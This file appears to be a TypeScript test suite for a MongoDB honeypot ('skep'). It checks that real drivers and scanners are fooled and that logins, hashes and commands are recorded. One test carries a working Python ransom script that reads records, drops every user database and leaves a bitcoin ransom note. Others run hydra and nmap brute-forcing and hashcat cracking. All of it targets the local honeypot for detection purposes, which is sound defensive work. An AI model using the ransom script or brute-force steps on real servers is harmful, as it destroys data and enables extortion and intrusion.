import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { driver, installDrivers } from '../drivers.ts'
import { crack } from '../hashcat.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; hash?: string; method: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'mongodb' && event.event.action === action
const saying = (action: string, words: string) => (event: Event) =>
  ofAction(action)(event) && JSON.stringify(event).includes(words)
const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-c', 'import pymongo']).status === 0,
)
const noDrivers = installDrivers()

type Cursor = {
  toArray(): Promise<Record<string, unknown>[]>
  sort(order: object): Cursor
  batchSize(n: number): Cursor
}
type Collection = {
  insertOne(doc: object): Promise<{ insertedId: unknown }>
  insertMany(docs: object[], options?: object): Promise<{ insertedCount: number }>
  find(filter: object, options?: object): Cursor
  findOne(filter: object): Promise<Record<string, unknown> | null>
  updateOne(filter: object, update: object, options?: object): Promise<{ modifiedCount: number; upsertedId: unknown }>
  updateMany(filter: object, update: object): Promise<{ modifiedCount: number }>
  deleteMany(filter: object): Promise<{ deletedCount: number }>
  countDocuments(filter?: object): Promise<number>
  distinct(key: string): Promise<unknown[]>
  aggregate(stages: object[]): Cursor
  createIndex(key: object): Promise<string>
  indexes(): Promise<{ name: string }[]>
  findOneAndUpdate(filter: object, update: object, options: object): Promise<Record<string, unknown> | null>
  bulkWrite(what: object[]): Promise<{ insertedCount: number; deletedCount: number }>
  drop(): Promise<boolean>
}
type Database = {
  collection(name: string): Collection
  command(what: object): Promise<Record<string, unknown>>
  dropDatabase(): Promise<boolean>
  admin(): {
    listDatabases(): Promise<{ databases: { name: string }[] }>
    buildInfo(): Promise<Record<string, unknown>>
  }
  listCollections(): Cursor
}
type Heartbeat = { awaited: boolean; failure?: Error }
type Client = {
  connect(): Promise<Client>
  db(name: string): Database
  close(): Promise<void>
  on(event: string, hear: (beat: Heartbeat) => void): void
}
type Driver = {
  MongoClient: new (url: string, options?: object) => Client
  Long: { fromString(text: string): unknown }
}

describe('MongoDB without a password, with real clients', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: debian-12 }\n' })
    port = String(skep.port('mongodb'))
  })
  after(() => skep?.stop())

  const withDriver = async (options: object, use: (client: Client) => Promise<void>) => {
    const { MongoClient } = driver<Driver>('mongodb')
    const client = new MongoClient(`mongodb://127.0.0.1:${port}/`, { serverSelectionTimeoutMS: 20_000, ...options })
    try {
      await client.connect()
      await use(client)
    } finally {
      await client.close()
    }
  }

  test('mongodb, the driver of Node', { skip: noDrivers }, () =>
    withDriver({}, async client => {
      const { Long } = driver<Driver>('mongodb')
      const db = client.db('lab')
      const hay = db.collection('hay')
      assert.equal(
        (await hay.insertMany(Array.from({ length: 250 }, (_, i) => ({ n: i, tag: i % 2 ? 'odd' : 'even' }))))
          .insertedCount,
        250,
      )
      assert.equal(
        (
          await hay
            .find({ n: { $gte: 20 } })
            .batchSize(50)
            .toArray()
        ).length,
        230,
      )
      assert.deepEqual(
        await hay
          .find({ n: { $in: [3, 5] } }, { projection: { _id: 0 } })
          .sort({ n: -1 })
          .toArray(),
        [
          { n: 5, tag: 'odd' },
          { n: 3, tag: 'odd' },
        ],
      )
      await hay.insertOne({
        _id: 1,
        at: new Date(5000),
        big: Long.fromString('9007199254740993'),
        list: [1, { x: 'y' }],
        no: null,
      })
      const one = await hay.findOne({ 'list.x': 'y' })
      assert.ok(one?.at instanceof Date)
      assert.equal(String(one?.big), '9007199254740993')
      await assert.rejects(
        hay.insertOne({ _id: 1 }),
        /E11000 duplicate key error collection: lab\.hay index: _id_ dup key: \{ _id: 1 \}/,
      )
      assert.equal(
        (await hay.updateMany({ tag: 'odd' }, { $set: { seen: true }, $inc: { n: 1000 } })).modifiedCount,
        125,
      )
      assert.ok((await hay.updateOne({ _id: 'new' }, { $push: { l: 1 } }, { upsert: true })).upsertedId)
      assert.equal(await hay.countDocuments({ seen: true }), 125)
      assert.deepEqual((await hay.distinct('tag')).sort(), ['even', 'odd'])
      const groups = await hay
        .aggregate([
          { $match: { n: { $exists: true } } },
          { $group: { _id: '$tag', sum: { $sum: '$n' }, most: { $max: '$n' } } },
          { $sort: { _id: 1 } },
        ])
        .toArray()
      assert.deepEqual(groups, [
        { _id: 'even', sum: 15_500, most: 248 },
        { _id: 'odd', sum: 140_625, most: 1249 },
      ])
      assert.equal(
        (await hay.findOneAndUpdate({ n: 2 }, { $set: { n: 'two' } }, { returnDocument: 'after' }))?.n,
        'two',
      )
      assert.equal(await hay.createIndex({ n: 1 }), 'n_1')
      assert.deepEqual(
        (await hay.indexes()).map(({ name }) => name),
        ['_id_', 'n_1'],
      )
      const bulk = await hay.bulkWrite([
        { insertOne: { document: { b: 1 } } },
        { deleteMany: { filter: { tag: 'even' } } },
      ])
      assert.deepEqual([bulk.insertedCount, bulk.deletedCount], [1, 125])
      await assert.rejects(hay.find({ $nope: 1 }).toArray(), /unknown top level operator: \$nope/)
      await assert.rejects(db.command({ nope: 1 }), /no such command: 'nope'/)
      const build = await db.admin().buildInfo()
      assert.match(String(build.version), /^7\.0\.\d+$/)
      assert.ok((await db.listCollections().toArray()).some(({ name }) => name === 'hay'))
    }),
  )
  test('it says who it is, and finds at the next visit what it left', { skip: noDrivers }, async () => {
    await withDriver({ appName: 'a-scanner' }, async client => {
      assert.ok((await client.db('lab').collection('hay').countDocuments()) > 100)
    })
    await skep.eventually(saying('environment', 'a-scanner'))
  })
  test('a driver is kept informed by one greeting that has many answers', { skip: noDrivers }, () =>
    withDriver({ heartbeatFrequencyMS: 500, serverMonitoringMode: 'stream' }, async client => {
      let beats = 0
      await new Promise<void>((resolve, reject) => {
        client.on('serverHeartbeatFailed', ({ failure }) => reject(failure ?? new Error('No heartbeat')))
        client.on('serverHeartbeatSucceeded', ({ awaited }) => {
          if (awaited && ++beats === 3) resolve()
        })
      })
    }),
  )
  test('compressed with zlib', { skip: noDrivers }, () =>
    withDriver({ compressors: ['zlib'] }, async client => {
      const wide = client.db('lab').collection('wide')
      await wide.insertOne({ _id: 'z', text: 'abc'.repeat(5000) })
      assert.equal(String((await wide.findOne({ _id: 'z' }))?.text).length, 15_000)
    }),
  )

  test('pymongo', { skip: python ? false : 'python3-pymongo not installed' }, async () => {
    const program = `
import pymongo, datetime, bson
c = pymongo.MongoClient('127.0.0.1', ${port}, serverSelectionTimeoutMS=20000)
assert c.server_info()['versionArray'][0] == 7
d = c.py
d.t.drop()
d.t.insert_many([{'_id': i, 'v': i * 1.5, 'w': {'d': datetime.datetime(2024, 5, 6)}} for i in range(120)])
assert d.t.count_documents({'v': {'$gt': 100}}) == 53
assert [x['_id'] for x in d.t.find({}, {'_id': 1}).sort('_id', -1).limit(3)] == [119, 118, 117]
assert d.t.find_one({'w.d': datetime.datetime(2024, 5, 6), '_id': bson.Int64(7)})['v'] == 10.5
assert d.t.update_one({'_id': 3}, {'$unset': {'w': ''}}).modified_count == 1 and 'w' not in d.t.find_one(3)
assert d.t.delete_many({'_id': {'$lt': 100}}).deleted_count == 100
try: d.t.insert_one({'_id': 119}); raise SystemExit('no error')
except pymongo.errors.DuplicateKeyError as e: assert e.code == 11000
try: d.command('frobnicate'); raise SystemExit('no error')
except pymongo.errors.OperationFailure as e: assert e.code == 59 and e.details['codeName'] == 'CommandNotFound', e
assert list(d.t.aggregate([{'$count': 'n'}])) == [{'n': 20}]
s = c.admin.command('serverStatus'); assert s['process'] == 'mongod' and s['uptime'] > 0
assert c.admin.command('getCmdLineOpts')['argv'][0] == '/usr/bin/mongod'
with c.start_session() as one: assert d.t.count_documents({}, session=one) == 20
c.close(); print('fine')
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, 'fine\n', err)
  })

  test('the data taken and dropped, a note left: the way it is done in the field', {
    skip: python ? false : 'python3-pymongo not installed',
  }, async () => {
    const program = `
import pymongo
c = pymongo.MongoClient('127.0.0.1', ${port}, serverSelectionTimeoutMS=20000)
took = 0
for name in c.list_database_names():
    if name in ('admin', 'config', 'local'): continue
    for coll in c[name].list_collection_names(): took += len(list(c[name][coll].find().limit(20)))
    c.drop_database(name)
c['READ__ME_TO_RECOVER_YOUR_DATA']['README'].insert_one({'content': 'All your data is backed up. You must pay 0.02 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq or write to recover@mail.example'})
print(took > 20, sorted(c.list_database_names()))
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, "True ['READ__ME_TO_RECOVER_YOUR_DATA', 'admin', 'config', 'local']\n", err)
    const [note] = await skep.eventually(saying('exploit', 'mongodb-ransom'))
    for (const words of [
      'bitcoin: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
      'mail: recover@mail.example',
      'dropped before: ',
    ])
      assert.ok(JSON.stringify(note).includes(words), JSON.stringify(note))
    await skep.eventually(saying('command', 'dropDatabase'))
  })

  test('by HTTP it says what it is', { skip: missing('curl') }, async () => {
    const { out } = await runClient('curl', ['-s', '-i', `http://127.0.0.1:${port}/`])
    assert.match(
      out,
      /^HTTP\/1\.0 200 OK\r\n[\s\S]*\r\n\r\nIt looks like you are trying to access MongoDB over HTTP on the native driver port\.\r\n$/,
    )
  })
  test('nmap sees a MongoDB', { skip: missing('nmap') }, async () => {
    const { out } = await runClient(
      'nmap',
      ['-Pn', '-n', '-sV', '-p', port, '--script', '+mongodb-info', '127.0.0.1'],
      { seconds: 200 },
    )
    assert.match(out, /open +mongodb/, out)
    assert.match(out, /mongodb-info:[\s\S]*gitVersion = [\da-f]{40}[\s\S]*UnsupportedOpQueryCommand/, out)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})

describe('MongoDB 4.4, which still speaks the opcodes of old', { skip: missing('nmap') }, () => {
  let skep: Skep
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: ubuntu-20.04 }\n' })
  })
  after(() => skep?.stop())
  test('nmap names the version, and lists build, status and databases', async () => {
    const args = [
      '-Pn',
      '-n',
      '-sV',
      '-p',
      String(skep.port('mongodb')),
      '--script',
      '+mongodb-info,+mongodb-databases',
    ]
    const { out } = await runClient('nmap', [...args, '127.0.0.1'], { seconds: 200 })
    assert.match(out, /open +mongodb +MongoDB (?:4\.4\.\d+)/, out)
    assert.match(out, /mongodb-info:[\s\S]*version = 4\.4\.\d+/, out)
    assert.match(out, /mongodb-databases:[\s\S]*name = admin/, out)
  })
})

describe('MongoDB behind a password', () => {
  let skep: Skep
  let port: string
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'mongodb-words-'))
  before(async () => {
    skep = await startSkep({
      config:
        'persona: { os: debian-12 }\nservices: { mongodb: { authorization: true, access: { rules: ["root:s3cret-word"], otherwise: refuse } } }\n',
    })
    port = String(skep.port('mongodb'))
    fs.writeFileSync(path.join(home, 'words'), 'alpha\nbeta\ns3cret-word\n')
    fs.writeFileSync(path.join(home, 'users'), 'root\nbackup\n')
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const connected = async (mechanism: string, password: string) => {
    const { MongoClient } = driver<Driver>('mongodb')
    const client = new MongoClient(
      `mongodb://root:${password}@127.0.0.1:${port}/?authMechanism=${mechanism}&authSource=admin`,
      { serverSelectionTimeoutMS: 20_000 },
    )
    try {
      await client.connect()
      return (await client.db('admin').admin().listDatabases()).databases.length
    } finally {
      await client.close()
    }
  }
  for (const [mechanism, mode] of [
    ['SCRAM-SHA-1', 24_100],
    ['SCRAM-SHA-256', 24_200],
  ] as const)
    test(`${mechanism}: in with the password alone, and the hash can be cracked`, {
      skip: noDrivers || missing('hashcat'),
    }, async () => {
      assert.equal(await connected(mechanism, 's3cret-word'), 4)
      await assert.rejects(connected(mechanism, 'wrong-word'), /Authentication failed\./)
      const [login] = (await skep.eventually(
        event =>
          ofAction('login')(event) &&
          (event as Login).skep.login.method === mechanism.toLowerCase() &&
          event.event.outcome === 'success',
      )) as Login[]
      assert.equal(login!.skep.login.password, 's3cret-word')
      assert.match(await crack(mode, login!.skep.login.hash!, ['sunflower', 's3cret-word']), /:s3cret-word/)
    })
  test('a user that was made can log in, and the one that was dropped cannot', {
    skip: python ? false : 'python3-pymongo not installed',
  }, async () => {
    const program = `
import pymongo
def come(user, word): return pymongo.MongoClient('127.0.0.1', ${port}, username=user, password=word, serverSelectionTimeoutMS=20000)
c = come('root', 's3cret-word')
c.admin.command('createUser', 'support', pwd='n0-list-has-it', roles=['root'])
assert [u['user'] for u in c.admin.command('usersInfo', 1)['users']] == ['support']
print(come('support', 'n0-list-has-it').admin.command('connectionStatus')['authInfo']['authenticatedUsers'])
c.admin.command('dropUser', 'support')
try: come('support', 'n0-list-has-it').list_database_names(); raise SystemExit('no error')
except pymongo.errors.OperationFailure as e: print(e.code)
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, "[{'user': 'support', 'db': 'admin'}]\n18\n", err)
    await skep.eventually(saying('account-change', 'n0-list-has-it'))
  })
  test('nobody else is told anything', { skip: python ? false : 'python3-pymongo not installed' }, async () => {
    const program = `
import pymongo
c = pymongo.MongoClient('127.0.0.1', ${port}, serverSelectionTimeoutMS=20000)
try: c.list_database_names(); raise SystemExit('no error')
except pymongo.errors.OperationFailure as e: print(e.code, e.details['errmsg'])
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, '13 command listDatabases requires authentication\n', err)
  })
  // It ends at the first password that is wrong, which libmongoc tries twice.
  test('hydra finds the password, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const guess = async (word: string) => {
      const args = ['-L', path.join(home, 'users'), '-p', word, '-t', '1', '-I', '-s', port, '127.0.0.1', 'mongodb']
      return (await runClient('hydra', args, { seconds: 120 })).out
    }
    assert.match(await guess('alpha'), /0 valid password found/)
    assert.match(await guess('s3cret-word'), /\[mongodb\] host: 127\.0\.0\.1 +login: root +password: s3cret-word/)
    const ofRoot = (event: Event) => ofAction('login')(event) && (event as Login).user?.name === 'root'
    await skep.eventually(ofRoot, 3, 20)
  })
  test('what nmap guesses with the mechanism of old is recorded, for John', { skip: missing('nmap') }, async () => {
    const old = await startSkep({
      config: 'persona: { os: ubuntu-20.04 }\nservices: { mongodb: { authorization: true } }\n',
    })
    try {
      const given = `userdb=${path.join(home, 'users')},passdb=${path.join(home, 'words')},brute.threads=1,brute.retries=0`
      const script = ['--script', '+mongodb-brute', '--script-args', given]
      await runClient('nmap', ['-Pn', '-n', '-p', String(old.port('mongodb')), ...script, '127.0.0.1'], {
        seconds: 200,
      })
      const [login] = (await old.eventually(ofAction('login'))) as Login[]
      assert.match(login!.skep.login.hash!, /^\$mongodb\$0\$(?:root|backup)\$[\da-f]{16}\$[\da-f]{32}$/)
    } finally {
      await old.stop()
    }
  })
})
